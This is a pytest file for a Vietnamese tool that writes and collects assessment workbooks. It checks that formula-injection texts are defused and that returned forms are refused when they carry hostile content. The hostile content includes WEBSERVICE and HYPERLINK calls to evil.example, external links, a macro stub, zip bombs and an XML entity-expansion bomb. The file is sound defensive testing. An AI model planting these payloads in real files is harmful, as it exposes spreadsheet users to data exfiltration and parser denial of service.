"""Workbooks and hostile texts: nothing the data holds becomes live in a workbook the tool writes, and a
returned workbook holding anything live or out of proportion is refused, located, before it is read.

* Every text of the data that lands in a form or an appraisal workbook (names, the province, the contact,
  the index set's title and basis, meanings, units, labels, evidence, notes) begins here with ``=``, ``+``,
  ``-``, ``@`` or ``#``: each is a text cell with the quote prefix, no sheet holds a formula, and collecting
  the untouched workbooks gives back exactly the data, with no complaint.
* The catalogue of damaged returned forms (``DAMAGES``): a formula in an entry cell, with the value a
  spreadsheet cached beside it; a link to another workbook; a defined name, a drop-down list or a linked
  picture pointing outside; a macro; a zip bomb; a file that is not a zip. Each is refused with its code,
  at its sheet and cell where it has one, and the tables are left as they were.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from generator.cli import main
from generator.forms.collect import collect_forms
from generator.forms.container import Limits, inspect
from generator.forms.layout import APPRAISAL_SHEET, GUIDE_SHEET, LISTS_SHEET, META_SHEET, SELF_SHEET
from generator.load import load_dataset
from generator.packaging import needs_quote_prefix

from .helpers import write_edition, write_framework
from .test_forms import INDICATORS, INPUTS, S, key_rows, located, templates

MB = 1024 * 1024


def live(tag: str, prefix: str = "=") -> str:
    """A text a spreadsheet would run: a call to an address, tagged to find where it lands."""
    return f'{prefix}WEBSERVICE("http://evil.example/?{tag}")'


# --------------------------------------------------------------------------- a year whose every text is hostile

PLACES = {  # tag → (sheets of a self form, sheets of the appraisal workbook) where the text must land
    "province": ({GUIDE_SHEET, SELF_SHEET}, {GUIDE_SHEET, APPRAISAL_SHEET}),  # the guide, and the place of the date line
    "contact": ({GUIDE_SHEET}, {GUIDE_SHEET}),
    "framework": ({GUIDE_SHEET}, {GUIDE_SHEET}),
    "basis": ({GUIDE_SHEET}, {GUIDE_SHEET}),
    "unit": ({GUIDE_SHEET}, {APPRAISAL_SHEET}),
    "indicator": ({SELF_SHEET}, {APPRAISAL_SHEET}),
    "meaning": ({SELF_SHEET}, {APPRAISAL_SHEET}),
    "measure": ({SELF_SHEET}, set()),  # an input's unit opens the «how» cell of a self form
    "label": ({SELF_SHEET, LISTS_SHEET}, {APPRAISAL_SHEET, LISTS_SHEET}),
    "yes": ({SELF_SHEET, LISTS_SHEET}, {APPRAISAL_SHEET, LISTS_SHEET}),
    "title": ({SELF_SHEET}, {APPRAISAL_SHEET}),
    "url": ({SELF_SHEET}, set()),
    "note": (set(), {APPRAISAL_SHEET}),
}


def hostile_year(root: Path) -> Path:
    """The tiny commune year of test_forms.py with every text a workbook shows replaced by a live one."""
    indicators = [dict(r, name=live(f"indicator-{r['id']}")) for r in INDICATORS]
    labels = {
        "truong_ban": f"nguoi_dung_dau: {live('label', '+')}; cap_pho: {live('label-2', '-')}; khong: #N/A",
        "da_ban_hanh": f"co: {live('yes', '@')}; khong: {live('yes-no')}",
    }
    inputs = [
        dict(i, meaning=live(f"meaning-{i['name']}", "+"), **({"unit": live("measure", "@")} if i.get("unit") else {}), **({"labels": labels[i["name"]]} if i["name"] in labels else {}))
        for i in INPUTS
    ]
    folder = write_framework(root / "frameworks" / "t-xa", indicators, inputs)
    descriptor = json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))
    descriptor["title"] = live("framework")
    descriptor["dti"]["legal_basis"]["document"] = live("basis", "-")
    (folder / "datapackage.json").write_text(json.dumps(descriptor, ensure_ascii=False, indent=2), encoding="utf-8")
    units = [{"id": "xa-a", "name": live("unit"), "type": "commune"}, {"id": "xa-b", "name": live("unit-b", "@"), "type": "commune"}]
    values = {("1.1", "truong_ban"): "cap_pho", ("1.2", "da_ban_hanh"): "có", ("1.3", "a"): "8", ("1.3", "b"): "10",
              ("2.1", "kinh_phi"): "75.5", ("2.2", "ty_le"): "85", ("2.3", "diem"): "4"}
    inputs_rows = [{"unit_id": u, "indicator_id": i, "input": n, "self_value": v} for u in ("xa-a", "xa-b") for (i, n), v in values.items()]
    evidence = [
        {"unit_id": "xa-a", "indicator_id": "1.3", "title": live("title"), "url": live("url", "=")},
        {"unit_id": "xa-a", "indicator_id": "1.3", "title": "#N/A", "url": "+84 200 555 1234"},
        {"unit_id": "xa-b", "indicator_id": "2.1", "title": "-1+1", "url": "@example"},
    ]
    assessments = [{"unit_id": "xa-a", "indicator_id": "2.3", "appraised_score": "3", "note": live("note", "=") + "\n" + live("note-line-2", "@")}]
    year = write_edition(root / "2024", 2024, {"commune": "t-xa"}, units, inputs_rows, assessments, evidence)
    descriptor = json.loads((year / "datapackage.json").read_text(encoding="utf-8"))
    descriptor["dti"]["province"] = live("province")
    descriptor["dti"]["forms"] = {"deadline": "2025-01-15", "contact": live("contact", "@")}
    (year / "datapackage.json").write_text(json.dumps(descriptor, ensure_ascii=False, indent=2), encoding="utf-8")
    return root


def formula_parts(path: Path) -> dict[str, int]:
    """Every part of the zip holding a formula element (``<f>``) or an error cell, with how many."""
    found = {}
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith(".xml"):
                count = len(re.findall(rb'<(?:\w+:)?f[\s>/]|t="e"', archive.read(name)))
                if count:
                    found[name] = count
    return found


def texts(path: Path) -> list[tuple[str, str, object]]:
    """(sheet, cell, openpyxl cell) of every cell holding something."""
    wb = load_workbook(path)
    return [(ws.title, c.coordinate, c) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def data_of(data: Path) -> dict[str, set]:
    """The year as loaded: what a round trip must give back."""
    dataset, _ = load_dataset(data)
    edition = dataset.editions[2024]
    return {
        "inputs": {(v.unit_id, v.indicator_id, v.input, v.self_value, v.appraised_value) for v in edition.inputs},
        "assessments": {(a.unit_id, a.indicator_id, a.self_score, a.not_evaluated, a.note, a.appraised_score) for a in edition.assessments},
        "evidence": {(e.unit_id, e.indicator_id, e.title, e.url) for e in edition.evidence},
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-forms")
    data = hostile_year(root / "data")
    before = data_of(data)
    forms = templates(data, root / "phieu")
    appraisal = templates(data, root / "tham-dinh", appraisal=True)
    return {"root": root, "data": data, "before": before, "forms": forms, "appraisal": appraisal}


def test_no_text_of_the_data_is_a_formula_in_any_workbook_written(hostile):
    for path in hostile["forms"] + hostile["appraisal"]:
        assert formula_parts(path) == {}, path.name
        for sheet, cell, c in texts(path):
            if isinstance(c.value, str):
                assert c.data_type == "s", (path.name, sheet, cell, c.value)
                if needs_quote_prefix(c.value):
                    assert c.quotePrefix, (path.name, sheet, cell, c.value)


def test_every_place_a_text_of_the_data_lands_was_tried(hostile):
    """The hostile texts reach every sheet they can reach, at the start of a cell (where a spreadsheet would
    take them for a formula): the test above covers every place."""
    for index, path in ((0, hostile["forms"][0]), (1, hostile["appraisal"][0])):
        landed = {tag: set() for tag in PLACES}
        for sheet, _, c in texts(path):
            if isinstance(c.value, str):
                for tag in PLACES:
                    if re.match(rf'[=+\-@]WEBSERVICE\("http://evil\.example/\?{tag}[")-]', c.value) or (tag == "label" and c.value == "#N/A"):
                        landed[tag].add(sheet)
        assert {tag: sheets for tag, sheets in landed.items()} == {tag: places[index] for tag, places in PLACES.items()}, path.name


def test_untouched_hostile_forms_are_collected_back_exactly_without_complaint(hostile, tmp_path):
    import shutil

    data = tmp_path / "data"
    shutil.copytree(hostile["data"], data)
    report, written = collect_forms(data, 2024, hostile["forms"][0].parent)
    assert report.ok and written, [str(i) for i in report.errors]
    # only what validation says of these data themselves: addresses that are not web links
    assert {i.code for i in report.warnings} == {"not-a-link"}
    assert data_of(data) == hostile["before"]
    report, written = collect_forms(data, 2024, hostile["appraisal"][0].parent, appraisal=True)
    assert report.ok and written, [str(i) for i in report.errors]
    assert {i.code for i in report.warnings} <= {"not-a-link"}
    assert data_of(data) == hostile["before"]


def test_the_open_data_workbooks_use_the_same_question():
    """One helper decides for every workbook the tool writes (the open-data workbooks and the forms)."""
    from generator import opendata_xlsx
    from generator.forms import sheets

    assert opendata_xlsx.needs_quote_prefix is needs_quote_prefix is sheets.needs_quote_prefix
    assert [t for t in ("=1+1", "+84", "-x", "@a", "\tx", "\rx", "#N/A") if not needs_quote_prefix(t)] == []
    assert [t for t in ("-5", "12.5", "Xã An", "a=b", "") if needs_quote_prefix(t)] == []


# --------------------------------------------------------------------------- damaged returned forms


def rezip(path: Path, change=None, add=None, drop=(), compress=zipfile.ZIP_DEFLATED) -> None:
    """Rewrite a workbook's zip: ``change`` maps a part name to a function of its text, ``add`` adds parts."""
    with zipfile.ZipFile(path) as source:
        parts = {i.filename: source.read(i.filename) for i in source.infolist()}
    for name, edit in (change or {}).items():
        parts[name] = edit(parts[name].decode("utf-8")).encode("utf-8")
    parts.update(add or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as target:
        for name, body in parts.items():
            if name not in drop:
                target.writestr(name, body)
    path.write_bytes(out.getvalue())


def sheet_part(path: Path, sheet: str) -> str:
    """The zip part of a sheet (the forms write their sheets in a fixed order)."""
    names = load_workbook(path, read_only=True).sheetnames
    return f"xl/worksheets/sheet{names.index(sheet) + 1}.xml"


def put_formula(path: Path, sheet: str, cell: str, formula: str, cached: str | None, text: bool = False) -> None:
    """What a spreadsheet saves for a formula: the formula and the value it computed (a number, or a text
    with ``text``), in one cell."""
    value = f"<v>{cached}</v>" if cached is not None else ""

    def edit(xml: str) -> str:
        found = re.search(rf'<c r="{cell}"([^>]*?)(/>|>.*?</c>)', xml, re.S)
        assert found, cell
        attrs = re.sub(r'\s*t="[^"]*"', "", found.group(1)) + (' t="str"' if text else "")
        return xml[: found.start()] + f'<c r="{cell}"{attrs}><f>{formula}</f>{value}</c>' + xml[found.end():]

    rezip(path, change={sheet_part(path, sheet): edit})


EXTERNAL_LINK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"><sheetNames>'
    '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
).encode()
EXTERNAL_LINK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
    'Target="file:///C:/so-lieu/khac.xlsx" TargetMode="External"/></Relationships>'
).encode()


def entry(path: Path) -> str:
    """The first entry cell of a self form: 1.3's «a»."""
    return f"{S['value']}{key_rows(load_workbook(path)[SELF_SHEET], S['key'])['1.3|a']}"


def formula_typed_with_cached_value(path):
    cell = entry(path)
    put_formula(path, SELF_SHEET, cell, "4+4", "8")
    return SELF_SHEET, cell, "formula-in-form", "«=4+4» (giá trị bảng tính lưu kèm: «8»)"


def formula_from_another_workbook(path):
    cell = entry(path)
    put_formula(path, SELF_SHEET, cell, "[1]Sheet1!$A$1", "8")
    rezip(path, add={"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK, "xl/externalLinks/_rels/externalLink1.xml.rels": EXTERNAL_LINK_RELS})
    return SELF_SHEET, cell, "formula-in-form", "trỏ tới một sổ tính khác"


def formula_in_a_locked_cell(path):
    put_formula(path, SELF_SHEET, "B8", '_xlfn.WEBSERVICE("http://evil.example/")', "Trưởng ban chỉ đạo")
    return SELF_SHEET, "B8", "formula-in-form", "gọi hàm WEBSERVICE"


def formula_in_the_guide(path):
    put_formula(path, GUIDE_SHEET, "B3", 'HYPERLINK("http://evil.example/")', None)
    return GUIDE_SHEET, "B3", "formula-in-form", "không có giá trị lưu kèm"


def formula_in_the_hidden_sheet(path):
    put_formula(path, META_SHEET, "B3", "2020+4", "2024")
    return META_SHEET, "B3", "formula-in-form", "«=2020+4»"


def formula_written_by_openpyxl(path):
    cell = entry(path)
    wb = load_workbook(path)
    wb[SELF_SHEET][cell] = "=SUM(1,7)"
    wb.save(path)
    return SELF_SHEET, cell, "formula-in-form", "«=SUM(1,7)»"


def link_to_another_workbook(path):
    rezip(path, add={"xl/externalLinks/externalLink1.xml": EXTERNAL_LINK, "xl/externalLinks/_rels/externalLink1.xml.rels": EXTERNAL_LINK_RELS})
    return None, None, "external-link", "«xl/externalLinks/externalLink1.xml»"


def defined_name_outside(path):
    rezip(path, change={"xl/workbook.xml": lambda x: x.replace("<definedNames>", '<definedNames><definedName name="nguon">[1]Sheet1!$A$1</definedName>', 1)})
    return None, None, "external-link", "tên «nguon»"


def drop_down_list_outside(path):
    cells = []

    def edit(xml: str) -> str:
        found = re.search(r'<dataValidation sqref="([A-Z]+[0-9]+)[^"]*"[^>]*type="list"[^>]*><formula1>[^<]*</formula1>', xml)
        cells.append(found.group(1))
        return xml[: found.start()] + re.sub(r"<formula1>[^<]*<", "<formula1>[1]Sheet1!$A$1:$A$3<", found.group()) + xml[found.end():]

    rezip(path, change={sheet_part(path, SELF_SHEET): edit})
    return SELF_SHEET, cells[0], "external-link", "trỏ tới một sổ tính khác"


def linked_picture(path):
    rels = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/a.png" TargetMode="External"/></Relationships>'
    rezip(path, add={"xl/drawings/_rels/drawing1.xml.rels": rels.encode()})
    return None, None, "external-link", "«http://evil.example/a.png»"


def macro(path):
    rezip(path, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(512)})
    return None, None, "live-content", "macro"


def zip_bomb_member(path):
    rezip(path, add={"xl/media/image1.png": bytes(40 * MB)})  # 40 MB of zeros, 40 KB once compressed
    return None, None, "form-too-large", "«xl/media/image1.png» khi giải nén dài 40,0 MB (tối đa 32,0 MB)"


def member_inflating_a_thousand_times(path):
    rezip(path, add={"xl/media/image1.png": bytes(3 * MB)})
    return None, None, "form-too-large", "giải nén thành 3,0 MB (gấp 1.0"


def not_a_zip(path):
    path.write_bytes(b"<html>not a workbook</html>")
    return None, None, "unreadable", "không giải nén được"


def half_a_zip(path):
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    return None, None, "unreadable", "không giải nén được"


def xml_with_entities(path):
    bomb = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
    rezip(path, change={"xl/styles.xml": lambda _: bomb})
    return None, None, "unreadable", "DTD"


DAMAGES = [
    formula_typed_with_cached_value, formula_from_another_workbook, formula_in_a_locked_cell, formula_in_the_guide,
    formula_in_the_hidden_sheet, formula_written_by_openpyxl, link_to_another_workbook, defined_name_outside,
    drop_down_list_outside, linked_picture, macro, zip_bomb_member, member_inflating_a_thousand_times, not_a_zip,
    half_a_zip, xml_with_entities,
]


@pytest.fixture(scope="module")
def clean(tmp_path_factory):
    from .test_forms import filled_rows, tiny_year

    root = tmp_path_factory.mktemp("clean-forms")
    data = tiny_year(root / "data", inputs=filled_rows())
    (form,) = templates(data, root / "phieu", unit_id="xa-a")
    return data, form


@pytest.mark.parametrize("damage", DAMAGES, ids=lambda f: f.__name__)
def test_a_damaged_returned_form_is_refused_where_the_damage_is(clean, tmp_path, damage, capsys):
    import shutil

    data = tmp_path / "data"
    shutil.copytree(clean[0], data)
    folder = tmp_path / "phieu"
    folder.mkdir()
    form = folder / "xa-a.xlsx"
    shutil.copy(clean[1], form)
    sheet, cell, code, words = damage(form)
    before = {p.name: p.read_bytes() for p in (data / "2024").iterdir()}
    status = main(["collect", "2024", str(folder), "--data", str(data)])
    out = capsys.readouterr()
    assert status == 1 and "Lỗi nội bộ" not in out.out + out.err and "Traceback" not in out.err
    assert {p.name: p.read_bytes() for p in (data / "2024").iterdir()} == before
    report, _ = collect_forms(data, 2024, folder, check=True)
    assert (form.name, sheet, cell, code) in located(report), [str(i) for i in report.errors]
    (issue,) = [i for i in report.errors if (i.sheet, i.cell, i.code) == (sheet, cell, code)][:1]
    assert words in issue.message, issue.message
    place = f"xa-a.xlsx{f', trang «{sheet}»' if sheet else ''}{f', ô {cell}' if cell else ''}: Lỗi: "
    assert place in out.out, out.out


def test_sizes_are_checked_from_the_directory_without_inflating(clean, tmp_path, monkeypatch):
    form = tmp_path / "xa-a.xlsx"
    form.write_bytes(clean[1].read_bytes())
    rezip(form, add={f"xl/media/image{n}.png": bytes(200_000) for n in range(3)})
    opened = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *a, **k: opened.append(a) or pytest.fail("a part was inflated"))
    small = Limits(file=10 * MB, total=500_000, part=150_000, parts=14)
    messages = sorted((f.code, f.message) for f in inspect(form, small))
    assert [c for c, _ in messages] == ["form-too-large"] and "15 phần" in messages[0][1]
    small = Limits(file=10 * MB, total=500_000, part=150_000)
    found = inspect(form, small)
    assert {f.code for f in found} == {"form-too-large"} and len(found) == 4  # three parts too big, and the total
    assert inspect(form, Limits(file=1000, total=MB, part=MB))[0].message.startswith("tệp dài")
    assert opened == []


def test_a_form_saved_again_by_a_spreadsheet_passes_the_container_check(clean, tmp_path):
    """openpyxl's own save (as a clerk's spreadsheet would save) adds no formula, link or oversized part."""
    form = tmp_path / "xa-a.xlsx"
    form.write_bytes(clean[1].read_bytes())
    wb = load_workbook(form)
    wb[SELF_SHEET][entry(form)] = 9
    wb.save(form)
    from generator.forms.container import SELF_LIMITS

    assert inspect(form, SELF_LIMITS) == []


def test_a_formula_in_the_councils_workbook_is_refused_at_its_cell(clean, tmp_path):
    """The appraisal workbook is checked the same way (with its own, larger, size limits)."""
    import shutil

    data = tmp_path / "data"
    shutil.copytree(clean[0], data)
    (path,) = templates(data, tmp_path / "hd", appraisal=True)
    from .test_forms import A

    cell = f"{A['note']}{key_rows(load_workbook(path)[APPRAISAL_SHEET], A['key'])['xa-a|1.3|a']}"
    put_formula(path, APPRAISAL_SHEET, cell, 'CONCAT("Đạt ",_xlfn.WEBSERVICE("http://evil.example/"))', "Đạt yêu cầu", text=True)
    report, _ = collect_forms(data, 2024, path.parent, appraisal=True, check=True)
    assert located(report) == {(path.name, APPRAISAL_SHEET, cell, "formula-in-form")}
    assert "«Đạt yêu cầu»" in report.errors[0].message and "WEBSERVICE" in report.errors[0].message
